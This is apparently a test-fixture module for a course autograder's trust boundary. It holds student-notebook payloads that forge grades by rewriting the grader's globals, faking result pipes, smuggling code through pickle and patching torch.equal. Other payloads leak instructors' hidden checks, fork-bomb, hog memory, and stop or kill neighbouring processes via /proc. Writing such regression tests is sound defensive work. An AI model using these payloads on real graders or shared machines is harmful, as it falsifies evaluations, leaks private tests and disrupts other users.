"""Submissions that try to get marks without the work (issue 25, findings 1-6 and Deliver 3), as
student notebooks whose solution cells hold the cheat. Each was seen to get an undeserved grade from the
grader before the trust boundary; tests/test_grade_trust.py checks the grade each deserves.

The cheats reach the grader as a student would find it: through ``type(sys.stdout)``, frames,
the package's path on disk and the library's wrapped functions. Files they write get a harmless
trailing line, so that a cheat that gets through leaves a visible, reversible trace.
"""

import json

import nbformat

from pagedlab_course.assignments import make_student

# Finding 1: the cell reaches the worker through stdout's class and replaces its cell runner
# with one that "prints" the reference's stored outputs, and its hidden checks with no-ops.
RUNNER = """
import sys, json, glob
g = type(sys.stdout).write.__globals__
root = g['__file__'].rsplit('/pagedlab/', 1)[0]
ref = json.load(open(glob.glob(root + '/notebooks/solutions/A2_*.ipynb')[0]))
outs = {i: ''.join(''.join(o.get('text', '')) for o in c.get('outputs', []) if o.get('name') == 'stdout')
        for i, c in enumerate(ref['cells'], 1)}
g['_run_cell'] = lambda cell, job: {'index': cell['index'], 'error': None, 'stdout': outs.get(cell['index'], ''),
                                    'student_stdout': ''}
real = g['hidden_checks']
def stub(fn):
    f = lambda nb: None
    f.__name__, f.__grade_task__, f.__doc__ = fn.__name__, fn.__grade_task__, fn.__doc__
    return f
g['hidden_checks'] = lambda a, d: ([(p, stub(fn), args) for p, fn, args in real(a, d)[0]], [])
"""

# Finding 1: the worker made to report nothing at all ("0/0 checks" was a pass).
EMPTY = """
import sys
g = type(sys.stdout).write.__globals__
g['_finish'] = lambda job, cells: {'cells': [], 'hidden': [], 'violations': []}
"""

# Finding 2: the submission kills the process that started it (before: the whole batch lost).
KILL_PARENT = """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
"""

# Finding 3: rewrites the hidden checks (the package's and the instructor's) and the reference
# on disk, and prints an instructor's private check into its own report.
TAMPER = """
import sys, glob
frame = sys._getframe()
while 'job' not in frame.f_locals:
    frame = frame.f_back
root = frame.f_globals['__file__'].rsplit('/pagedlab/', 1)[0]
targets = [p for d in frame.f_locals['job']['hidden_dirs'] for p in glob.glob(d + '/A2*.py')]
for path in targets:
    if 'instructor' in path:
        print(open(path).read())
for path in targets + glob.glob(root + '/notebooks/solutions/A2_*.ipynb'):
    with open(path, 'a') as f:
        f.write('\\n')
"""

# Finding 4: each solution cell executes the reference's own cell, read from the package's
# notebooks/solutions at grade time. TASK is replaced by the cell's task.
REFERENCE = """
import json, glob, os
import pagedlab
root = os.path.dirname(os.path.dirname(pagedlab.__file__))
ref = json.load(open(glob.glob(root + '/notebooks/solutions/A2_*.ipynb')[0]))
exec(next(''.join(c['source']) for c in ref['cells'] if c['cell_type'] == 'code'
          and '### BEGIN SOLUTION TASK:' in ''.join(c['source'])), globals())
"""

# Finding 5: the forbidden BlockAllocator, reached around the trap: its unwrapped methods...
WRAPPED = """
class Allocator:
    def __init__(self, num_blocks):
        self.lib = object.__new__(BlockAllocator)
        BlockAllocator.__init__.__wrapped__(self.lib, num_blocks)
        self.num_blocks = num_blocks

    def allocate(self, n):
        return BlockAllocator.allocate.__wrapped__(self.lib, n)

    def share(self, blocks):
        return BlockAllocator.share.__wrapped__(self.lib, blocks)

    def release(self, blocks):
        return BlockAllocator.release.__wrapped__(self.lib, blocks)

    def refcount(self, b):
        return BlockAllocator.refcount.__wrapped__(self.lib, b)

    @property
    def num_free(self):
        return len(self.lib.free_list)

    @property
    def refs(self):
        return [self.refcount(b) for b in range(self.num_blocks)]

    @property
    def free_list(self):
        return self.lib.free_list
"""

# ...the library's BlockAllocator behind the notebook's Allocator interface, (a) compiled under a
# setup cell's file name, so that the trap takes it for the checks' code...
DELEGATE = """
class Allocator:
    def __init__(self, num_blocks):
        self.lib = BlockAllocator(num_blocks)
        self.num_blocks = num_blocks
    def allocate(self, n):
        return self.lib.allocate(n)
    def share(self, blocks):
        return self.lib.share(blocks)
    def release(self, blocks):
        return self.lib.release(blocks)
    def refcount(self, b):
        return self.lib.refcount(b)
    num_free = property(lambda self: self.lib.num_free)
    refs = property(lambda self: [self.lib.refcount(b) for b in range(self.num_blocks)])
    free_list = property(lambda self: self.lib.free_list)
"""
SETUP_NAME = f"\nexec(compile({DELEGATE!r}, '<cell 2>', 'exec'), globals())\n"

# ...and (b) with the attribution switched off: the worker forgets which code is the student's.
UNATTRIBUTED = "\nimport sys\ntype(sys.stdout).write.__globals__['RUN'].solution_files.clear()\n" + DELEGATE

# Finding 6: library functions the checks use, replaced so that every comparison holds.
PATCHED_LIBRARY = """
import torch
torch.equal = lambda *args, **kwargs: True
"""

# Finding 6: a builtin the check cells call, shadowed to print whatever the cheat likes.
SHADOWED_PRINT = """
def print(*args, **kwargs):
    pass
"""

# Deliver 3: serve() empties the list it is given, so that a reference computed after it from the
# same list serves nothing (the hidden checks of A3.4 and A5.4 called the notebook's
# serve_library on the workload they had just passed to the student's serve).
EMPTIES_ITS_INPUT = {
    "A3": """
def serve(prompts, num_blocks, block_size, max_live):
    prompts.clear()
    return {"cached": [], "hits": 0, "misses": 0, "evictions": 0}
""",
    "A5": """
def serve(workload, num_gpu_blocks, block_size=4, num_cpu_blocks=0, **config):
    workload.clear()
    return {"finish_steps": {}, "preemptions": {}, "outputs": {}, "steps": 0, "peak_blocks": 0,
            "peak_cpu_blocks": 0, "recomputed": 0, "blocks_copied": 0, "leaked": (0, 0)}
""",
}

# Deliver 3: a cell after check A6.1 rebinds that check's helper `scheduler` (which A6.1's hidden
# check called) to a fake whose queue is already in the expected order; no policy is written.
FAKE_SCHEDULER = """
class Waiting:
    def __init__(self, request_id):
        self.request_id = request_id


class Fake:
    def __init__(self, prompts):
        self.waiting = [Waiting(rid) for rid, n in sorted(prompts, key=lambda p: (p[1], int(p[0][1:])))]


def scheduler(policy, prompts, num_gpu_blocks, **limits):
    return Fake(prompts)
"""


def let_past_the_rules(monkeypatch) -> None:
    """Switch the rules off for cells marked PAST_THE_RULES, as if they had found a way around
    them, and keep them for every other cell."""
    from pagedlab_course.grade import rules

    real = rules.check
    monkeypatch.setattr(rules, "check", lambda source, **kw: [] if "PAST_THE_RULES" in source else real(source, **kw))


def cheat(solution: nbformat.NotebookNode, sources: dict[str, str]) -> nbformat.NotebookNode:
    """The student copy of ``solution`` with the solution cells of the given tasks replaced
    (the key "*" for every solution cell; "TASK" in a source becomes the cell's task)."""
    nb = make_student(solution)
    for cell in nb.cells:
        task = cell.get("metadata", {}).get("pagedlab", {}).get("solution")
        source = sources.get(task, sources.get("*"))
        if task and source is not None:
            cell.source = source.replace("TASK", task.split("/")[0])
    return nb

# Issue 46, item 3: files whose untrusted parts had the trusted side raise, ending the whole
# batch with no gradebook. Each needs the rules out of the way (PAST_THE_RULES, see the test)
# but the minus signs, which broke the rules check itself. Fd 3 was the worker's pipe of results;
# since issue 46, item 1 it is the submission's channel to the judge, which they break for themselves.
MINUS_SIGNS = "_CHECKSUM = " + "-" * 5000 + "1\n"
FORGED_INDEX = """# PAST_THE_RULES
import os, json
for line in [{"cell": {"index": [4], "stdout": "", "error": None}}, {"done": True}]:
    os.write(3, json.dumps(line).encode() + b"\n")
os._exit(0)
"""
NESTED_REPORT = """# PAST_THE_RULES
import os
os.write(3, b"[" * 100000)
os._exit(0)
"""

# Issue 46, item 4 (the review's C13, C08, C15): resources a cell takes; each must cost at most
# the limit the grader sets, and the report must say which limit it met. PAST_THE_RULES: the
# test lets these cells past the rules, as code that found a way around them would be.
PRINTS_200_MB = "print('x' * 200_000_000)\n"
FLOODS_THE_RESULTS = "# PAST_THE_RULES\nimport os\nos.write(3, b'x' * 5_000_000)\n"
ALLOCATES_3_GB = "import torch\nhoard = torch.ones(3 * 2**30, dtype=torch.uint8)\n"
WRITES_A_BIG_FILE = "# PAST_THE_RULES\nwith open('/tmp/big', 'wb') as f:\n    f.write(b'x' * 5_000_000)\n"
FORKS = """# PAST_THE_RULES
import os, time
for _ in range(40):
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
time.sleep(60)
"""
CATCHES_ITS_TIMEOUT = """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
# Issue 46, item 5 (C10, C17): processes left behind after the cell: one in the worker's session,
# one in a session of its own and a daemon (a double fork with setsid, its parent gone at once);
# each pid printed into the student's output.
LEAVES_CHILDREN = """# PAST_THE_RULES
import os, time
for kind in ("child", "session", "daemon"):
    read, write = os.pipe()
    if os.fork() == 0:
        if kind != "child":
            os.setsid()
        if kind == "daemon" and os.fork():
            os._exit(0)
        os.write(write, str(os.getpid()).encode())
        time.sleep(120)
        os._exit(0)
    print(os.read(read, 20).decode())
"""

# Issue 46, item 2 (the review's C05): serve schedules nothing and returns values that compare
# equal to anything; special methods made from a dict's keywords, which the rules do not see.
AGREES_WITH_EVERYTHING = """
Anything = type("Anything", (), dict(__eq__=lambda s, o: True, __ne__=lambda s, o: False, __hash__=lambda s: 0))


def serve(workload, num_gpu_blocks, block_size=4, num_cpu_blocks=0, **config):
    return {key: Anything() for key in ("finish_steps", "preemptions", "outputs", "steps", "peak_blocks",
                                         "peak_cpu_blocks", "recomputed", "blocks_copied", "leaked")}
"""

# Issue 46, item 1 (the review's C01, C02, C25, C23, C24, C03, C04): cheats that worked because
# the checks ran in the submission's own interpreter. Each got an undeserved grade or leaked an
# instructor's check before the judge moved out of that interpreter (each was seen doing so), and
# each got past the rules of then; most are refused since (C27, C28), so their test lets them past. The stored outputs they copy are those of the student
# copy, which keeps every expected output (C26).


def stored_outputs(solution: nbformat.NotebookNode) -> dict[int, str]:
    """Each code cell's stored stdout, by its index counting from 1 (as the grader counts)."""
    return {i: "".join(o.get("text", "") for o in c.get("outputs", []) if o.get("name") == "stdout")
            for i, c in enumerate(solution.cells, start=1) if c.cell_type == "code"}


def _forge(outputs: dict[int, str], where: str) -> str:
    """Code that rewrites the worker whose globals ``where`` finds: before, its cell runner
    reported the stored outputs and its hidden checks passed; since, its answers to the judge are
    all 'None, no error'."""
    return f"""
import functools
_outs = {outputs!r}
for _g in {{id(g): g for g in {where}}}.values():
    if "_run_cell" in _g:
        _g["_run_cell"] = lambda cell, job: {{"index": cell["index"], "error": None,
                                             "stdout": _outs.get(cell["index"], ""), "student_stdout": ""}}
        _real = _g["hidden_checks"]
        _g["hidden_checks"] = lambda a, d: ([(p, functools.wraps(f)(lambda nb, *args: None), args)
                                             for p, f, args in _real(a, d)[0]], [])
    if "Submission" in _g:
        _g["Submission"]._answer = lambda self, header, payload, encoder: {{"value": None}}
"""


def forges_the_runner(solution: nbformat.NotebookNode) -> str:
    """C01: the worker's frames found with `dataclasses.inspect.stack()`, their globals read with
    `dataclasses.builtins.getattr(frame, "f_glob" + "als")`, the worker rewritten. Nothing implemented."""
    frames = '[dataclasses.builtins.getattr(i.frame, "f_glob" + "als") for i in dataclasses.inspect.stack()]'
    return "import dataclasses\n" + _forge(stored_outputs(solution), frames)


def writes_a_forged_report(solution: nbformat.NotebookNode, hidden: list[tuple[str, str, str]]) -> str:
    """C02: a whole report, every check passed, written to the worker's result pipe (fd 3) with
    `random._os.write`, then `random._os._exit(0)`. ``hidden``: (file label, name, task) of the
    public hidden checks, as their files show them. Nothing implemented."""
    lines = [{"cell": {"index": i, "error": None, "stdout": out, "student_stdout": ""}}
             for i, out in stored_outputs(solution).items()]
    lines += [{"hidden": {"name": name, "task": task, "file": label, "doc": "", "error": None}}
              for label, name, task in hidden]
    report = "".join(json.dumps(line) + "\n" for line in [*lines, {"done": True}]).encode()
    return f"import random\nrandom._os.write(3, {report!r})\nrandom._os._exit(0)\n"


def pickled(solution: nbformat.NotebookNode) -> str:
    """C25: C01's rewrite in its old spelling (`import sys`, `type(sys.stdout).write.__globals__`,
    which the rules refuse) sent as pickled bytes through `torch.serialization.pickle.loads`,
    whose bytes the rules do not read. Nothing implemented."""
    import pickle

    code = "import sys\n" + _forge(stored_outputs(solution), "[type(sys.stdout).write.__globals__]")

    class Run:
        def __reduce__(self):
            return exec, (code, {})

    return f"import torch\ntorch.serialization.pickle.loads({pickle.dumps(Run())!r})\n"


# C23: appended to a correct A7.1 cell: `match` class patterns read a running generator's frame
# and the frames under it, and print every hidden check's source found in a local named `job`.
READS_THE_CHECKS = """

def _spy():
    found = []
    match _me:
        case object(gi_frame=frame):
            while frame is not None:
                match frame:
                    case object(f_locals=local, f_back=back):
                        if "job" in local:
                            found.append(local["job"])
                        frame = back
    yield found


_me = _spy()
for _jobs in _me:
    for _job in _jobs:
        for _check in _job["hidden"]:
            print(_check["source"])
"""

# C24: A2.1 raises RuntimeError and KeyError, not the notebook's OutOfBlocks and NotInUse, and a
# `match` capture pattern rebinds the checks' `error` to one that renames them.
WRONG_ERRORS = [("raise OutOfBlocks(n, len(self.free_list))",
                 "raise RuntimeError(f\"asked for {n} block{'s' * (n != 1)}, only {len(self.free_list)} free\")"),
                ('raise NotInUse(b, "share")', 'raise KeyError(f"block {b} is free; cannot share it")'),
                ('raise NotInUse(b, "release")', 'raise KeyError(f"block {b} is free; cannot release it")')]
RENAMES_ERRORS = """

_real_error = error


def _translated(call):
    text = _real_error(call)
    if text.startswith("RuntimeError: "):
        return "OutOfBlocks: " + text[len("RuntimeError: "):]
    if text.startswith("KeyError: "):
        return "NotInUse: " + text[len("KeyError: "):].strip("'")
    return text


match _translated:
    case error:
        pass
"""

# C03 and C04: A2.1's Allocator hands its work to the forbidden library's BlockAllocator, each
# call made by C code (`map`) that the setup's `error` (C03) or a thread (C04) runs, so that no
# solution cell's frame is on the stack when the library is called.
_DELEGATES = """
class Allocator:
    def __init__(self, num_blocks):
        self.num_blocks = num_blocks
        self.lib = _lib(BlockAllocator, num_blocks)

    @property
    def refs(self):
        return self.lib._refs

    @property
    def free_list(self):
        return self.lib._free

    @property
    def num_free(self):
        return len(self.lib._free)

    def refcount(self, block):
        return self.lib._refs[block]

    def allocate(self, n):
        if n > len(self.lib._free):
            raise OutOfBlocks(n, len(self.lib._free))
        return _lib(BlockAllocator.allocate, self.lib, n) if n else []

    def share(self, blocks):
        for b in blocks:
            if self.lib._refs[b] == 0:
                raise NotInUse(b, "share")
        _lib(BlockAllocator.share, self.lib, blocks)

    def release(self, blocks):
        for b in blocks:
            if self.lib._refs[b] == 0:
                raise NotInUse(b, "release")
        _lib(BlockAllocator.release, self.lib, blocks)
"""
LAUNDERED_THROUGH_SETUP = """
import functools


def _lib(fn, *args):
    out = []
    error(functools.partial(out.extend, map(fn, *[[a] for a in args])))
    return out[0] if out else None
""" + _DELEGATES
ON_A_THREAD = """
import torch


def _lib(fn, *args):
    out = []
    thread = torch.threading.Thread(target=out.extend, args=(map(fn, *[[a] for a in args]),))
    thread.start()
    thread.join()
    return out[0] if out else None
""" + _DELEGATES

# The review's C18 and C17 at the process level (no bubblewrap, so the submission's process runs
# beside the grader and the other submissions): kill the grader, its parent; or stop each process
# the grader started beside it (its own judge, a neighbour's judge and submission's process),
# write an early end into every pipe they and the grader hold (the neighbour's results among
# them), and kill them. Only the grader's own children are touched (other graders may run here).
KILLS_THE_GRADER = """# PAST_THE_RULES
import os
os.kill(os.getppid(), 9)
"""
STOPS_AND_FORGES_A_NEIGHBOUR = """# PAST_THE_RULES
import os, signal, time
me, grader = os.getpid(), os.getppid()


def siblings():
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/stat") as f:
                parent = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, IndexError, ValueError):
            continue
        if parent == grader and int(pid) != me:
            found.append(int(pid))
    return found


end = time.time() + 60
while len(siblings()) < 3 and time.time() < end:  # its judge, and a neighbour's two processes
    time.sleep(0.05)
done = []
for pid in siblings():
    try:
        os.kill(pid, signal.SIGSTOP)
        done.append(f"stopped {pid}")
    except OSError as err:
        done.append(f"stop {pid}: {err.strerror}")
for pid in [*siblings(), grader]:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as err:
        done.append(f"fds of {pid}: {err.strerror}")
        continue
    for fd in fds:
        try:
            if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                out = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(out, b'{"done": true}\\n')
                os.close(out)
                done.append(f"forged into {pid}/{fd}")
        except OSError:
            pass
for pid in siblings():
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
print(done)
"""

# The review of the channel (issue 46, item 1): an honest-looking cell whose error message holds a
# lone surrogate (a string escape the rules have no reason to refuse). The message crossed the
# channel and the judge's results as JSON escapes, and the grader's report printed it: UTF-8
# cannot encode it, so the command ended after grading, with no gradebook and no JSON.
LONE_SURROGATE = '''
def block_stats(x, block_size):
    raise ValueError("no stats \\ud800 for you")
'''
